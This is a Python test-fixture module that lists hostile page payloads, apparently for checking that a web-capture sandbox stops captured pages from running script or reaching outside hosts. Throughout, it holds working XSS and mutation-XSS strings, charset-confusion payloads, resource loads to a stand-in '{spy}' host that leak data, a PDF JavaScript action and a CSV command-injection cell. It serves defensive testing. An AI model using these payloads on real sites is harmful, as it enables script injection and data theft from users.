"""Hostile pages, each a way for a captured page to act.  None of them may leave a mark or be heard of elsewhere."""

MARK = "window.top.name=/owned/.source;document.title=/owned/.source"
"""A script that leaves a mark; it can stand within any quotes, or none."""

ATTACKS = {
    "script": "<script>{do}</script>",
    "script of another host": "<script src='{spy}/script.js'></script>",
    "module": "<script type=module>import '{spy}/module.js'</script>",
    "handler": '<img src=x onerror="{do}"><body onload="{do}"><div onpointerover="{do}">x</div>',
    "handler in odd case": "<ImG/sRc=x/OnErRoR={do}>",
    "javascript link": "<a id=go href=\"javascript:{do}\">go</a><a href='java&#10;script:{do}'>go</a>",
    "data link": '<a id=go href="data:text/html,<script>{do}</script>">go</a>',
    "meta refresh": "<meta http-equiv=refresh content='0;url={spy}/refresh'>",
    "base": "<base href='{spy}/'><img src='base.png'><a href='x'>x</a>",
    "form": "<form id=f action='{spy}/form'><input name=q autofocus onfocus=\"{do}\"><button>go</button></form>",
    "button of a form": (
        "<button formaction='{spy}/button' form=f>go</button><input type=image src='{spy}/input.png'>"
    ),
    "svg": ("<svg onload=\"{do}\"><script>{do}</script><image href='{spy}/svg.png'/><use href='{spy}/u.svg#a'/></svg>"),
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="{do}"></style></mglyph></table></mtext></math>',
    "css": "<style>@import '{spy}/css';p{{background:url({spy}/bg)}}</style><p style='background:url({spy}/st)'>",
    "css selectors": "<style>input[value^=a]{{background:url({spy}/leak)}}</style><input value=abc>",
    "stylesheet": "<link rel=stylesheet href='{spy}/sheet.css'><link rel=preload as=image href='{spy}/pre.png'>",
    "prefetch": (
        "<link rel=prefetch href='{spy}/pf'><link rel=dns-prefetch href='{spy}'><link rel=icon href='{spy}/i'>"
    ),
    "frame": "<iframe src='{spy}/frame'></iframe><iframe srcdoc='<script>{do}</script>'></iframe>",
    "frames": "<frameset><frame src='{spy}/frameset'></frameset>",
    "object": "<object data='{spy}/object'></object><embed src='{spy}/embed'><applet code='{spy}/applet'></applet>",
    "pictures": "<img src='{spy}/a.png'><img srcset='{spy}/b.png 2x'><picture><source srcset='{spy}/c'></picture>",
    "media": "<video poster='{spy}/p' src='{spy}/v' autoplay></video><audio src='{spy}/a' autoplay></audio>",
    "old attributes": "<table background='{spy}/t'><tr><td background='{spy}/td'></table><body background='{spy}/b'>",
    "data picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{do}'/>\">",
    "blob": "<img src='blob:{spy}/1'><a id=go href='blob:{spy}/1'>go</a>",
    "ping": "<a id=go href='{spy}/link' ping='{spy}/ping' target=_top>go</a>",
    "target": "<a id=go href='{spy}/blank' target=_blank rel=opener>go</a>",
    "broken out of text": '<textarea></textarea><img src=x onerror="{do}"><title></title><script>{do}</script>',
    "comment": "<!--><script>{do}</script>--><![CDATA[><script>{do}</script>]]>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=\"{do}\">'></noscript>",
    "template": "<template><script>{do}</script></template><p><template shadowrootmode=open><img src=x onerror={do}>",
    "xss in the title": "<h1>&lt;script&gt;{do}&lt;/script&gt;</h1>",
    "import map": "<script type=importmap>{{}}</script><object type='text/html' data='data:text/html,x'></object>",
    "picture mark": "<img src='image:0'><img src='/captures/1/file' onerror=\"{do}\">",
    "srcdoc in a frame of a frame": (
        "<iframe srcdoc='<iframe srcdoc=\"&lt;script&gt;{do}&lt;/script&gt;\"></iframe>'></iframe>"
    ),
    "portal and fenced frame": "<portal src='{spy}/portal'></portal><fencedframe src='{spy}/fenced'></fencedframe>",
    "link by xlink": (
        "<svg><a xlink:href='javascript:{do}' id=go><text y=20>go</text></a><animate href='{spy}/an'/></svg>"
    ),
    "animated address": (
        "<svg><a id=go><animate attributeName=href values='javascript:{do}'/><text y=9>go</text></a></svg>"
    ),
    "foreign object": "<svg><foreignObject><body><img src=x onerror='{do}'></body></foreignObject></svg>",
    "mutation by style": "<svg></p><style><a id=\"</style><img src=1 onerror='{do}'>\">",
    "mutation by math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror='{do}'></style>",
    "mutation by a caption": (
        "<table><caption><svg><title><style></caption><img src=x onerror='{do}'></style></table>"
    ),
    "mutation by noembed": "<noembed><img title='</noembed><img src=x onerror={do}>'></noembed>",
    "mutation by xmp": "<xmp><p title='</xmp><img src=x onerror={do}>'></xmp>",
    "select": (
        "<select><template><img src=x onerror='{do}'></template><option><style></select><img src=x onerror='{do}'>"
    ),
    "declarative shadow": "<div><template shadowrootmode=open><slot onslotchange='{do}'></slot></template></div>",
    "dialog and popover": (
        "<dialog open><form method=dialog><button formaction='javascript:{do}'>go</button></form></dialog>"
    ),
    "invoker": (
        "<button popovertarget=p commandfor=p command='--x' onclick='{do}'>go</button><div id=p popover ontoggle='{"
        "do}'>p</div>"
    ),
    "details": "<details open ontoggle='{do}'><summary>s</summary>d</details>",
    "marquee": "<marquee onstart='{do}' behavior=alternate>x</marquee><bgsound src='{spy}/sound'>",
    "isindex and keygen": "<isindex action='{spy}/isindex' prompt=x><keygen autofocus onfocus='{do}'>",
    "link preload and manifest": (
        "<link rel=preload as=script href='{spy}/pl.js'><link rel=manifest href='{spy}/m.json'>"
    ),
    "link modulepreload": (
        "<link rel=modulepreload href='{spy}/mp.js'><link rel=prerender href='{spy}/pr'><link rel=preconnect href='"
        "{spy}'>"
    ),
    "speculation rules": '<script type=speculationrules>{{"prefetch":[{{"urls":["{spy}/sp"]}}]}}</script>',
    "report of a policy": (
        "<meta http-equiv=Content-Security-Policy content=\"report-uri {spy}/csp\"><img src='{spy}/x'>"
    ),
    "cookies by meta": (
        "<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url><img src='{spy}/r'>"
    ),
    "css in attributes": (
        "<font style='x:expression({do})' face='x'>y</font><p style=\"behavior:url({spy}/htc)\">z</p>"
    ),
    "css in svg": "<svg><style>@import url({spy}/svgcss);*{{background:url({spy}/svgbg)}}</style></svg>",
    "css fonts": "<style>@font-face{{font-family:l;src:url({spy}/font)}}p{{font-family:l}}</style>",
    "css of lists": "<ul style='list-style:url({spy}/ls)'><li style='content:url({spy}/ct)'>x</li></ul>",
    "image candidates": (
        "<img src=x srcset=\"{spy}/1x 1x, {spy}/2x 2x\" sizes=1px lowsrc='{spy}/low' dynsrc='{spy}/dyn'>"
    ),
    "image map": (
        "<img usemap='#m' src=x><map name=m><area id=go href='javascript:{do}' shape=default ping='{spy}/ping'></map>"
    ),
    "attribution": (
        "<img src='/captures/1/file' attributionsrc='{spy}/at'><a id=go attributionsrc='{spy}/al' href='{spy}/l'>go</a>"
    ),
    "track and source": "<video><source src='{spy}/s'><track default src='{spy}/t'></video><embed code='{spy}/c'>",
    "half a tag at the end": "<img src='{spy}/half' onerror='{do}' alt=\"",
    "comment in a comment": "<!-- <!-- --> <img src=x onerror='{do}'> --!><img src=x onerror='{do}'>",
    "processing instruction": "<?xml-stylesheet href='{spy}/pi.css'?><!DOCTYPE x [<!ENTITY e SYSTEM '{spy}/e'>]>&e;",
    "null bytes in names": "<scr\x00ipt>{do}</scr\x00ipt><img s\x00rc=x one\x00rror={do}><iframe/src='{spy}/nul'>",
    "control letters in a link": (
        "<a id=go href='\x01java\tscript:{do}'>go</a><a href='&#x6a;avascript&colon;{do}'>go</a>"
    ),
    "clobbered names": "<form name=body><input name=firstChild></form><img name=location id=document src='{spy}/cl'>",
    "utf-7": "+ADw-script+AD4-{do}+ADw-/script+AD4-<meta charset=utf-7>",
}
"""Name → markup, with ``{do}`` for the script and ``{spy}`` for a host that listens."""

SCRIPT = f"<script>{MARK}</script><img src=x onerror={MARK}>"
RAW = {
    "UTF-16 against its header": ("text/html; charset=utf-8", "\ufeff{page}".encode("utf-16-le")),
    "UTF-16 without a mark": ("text/html; charset=utf-16", "{page}".encode("utf-16-be")),
    "UTF-7 by its header": ("text/html; charset=utf-7", b"{page}+ADw-script+AD4-{do}+ADw-/script+AD4-"),
    "escapes of ISO-2022-JP": (
        "text/html; charset=iso-2022-jp",
        b"{page}\x1b(J<scr\x1b(Bipt>{do}</scr\x1b(Bipt>\x1b$B",
    ),
    "escapes without a charset": ("text/html", b"\x1b$B<!-- \x1b(B{page}\x1b(J<img alt='\x1b$B' onerror={do} src=x>"),
    "half a letter before a quote": (
        "text/html; charset=gbk",
        b"{page}<img alt='\xc0' src=x onerror={do} title='\xc0'>",
    ),
    "HZ": ("text/html; charset=hz-gb-2312", b"{page}<p title='~{'><script>{do}</script>~}'>x"),
    "EBCDIC": ("text/html; charset=cp037", b"{page}"),
    "an unknown charset": ("text/html; charset=x-user-defined", b"{page}"),
    "two types": ("text/plain, text/html", b"{page}"),
    "XHTML": (
        "application/xhtml+xml",
        b'<?xml version="1.0"?>{page}<x:script xmlns:x="http://www.w3.org/1999/xhtml"/>',
    ),
}
"""Name → declared type and bytes, with ``{page}`` for a page that `SCRIPT` is in."""

FILES = {
    "SVG": (
        "image/svg+xml",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='{do}'><script>{do}</script></svg>",
        "a.pdf",
    ),
    "HTML named a paper": ("application/pdf", b"<!DOCTYPE html><html><body>{do}</body></html>", "b.pdf"),
    "HTML of no type": ("application/octet-stream", b"<html><body><script>{do}</script></body></html>", "c.doc"),
    "XML with a stylesheet": (
        "application/msword",
        b"<?xml version='1.0'?><?xml-stylesheet href='{spy}/x.xsl'?><a/>",
        "d.doc",
    ),
    "a paper that runs": (
        "application/pdf",
        b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL('{spy}/pdf'))>>>>",
        "e.pdf",
    ),
    "a picture that is a page": ("image/png", b"<html><script>{do}</script></html>", "f.png"),
    "a picture that is SVG": (
        "image/gif",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>{do}</script></svg>",
        "g.gif",
    ),
    "a picture with a page behind": ("image/gif", b"GIF89a/*<html><script>{do}</script>*/", "h.gif"),
    "a table that is a page": ("text/csv", b"<script>{do}</script>,=cmd|' /C calc'!A0", "i.csv"),
}
"""Name → declared type, bytes and the name in the address of a file that is no page."""
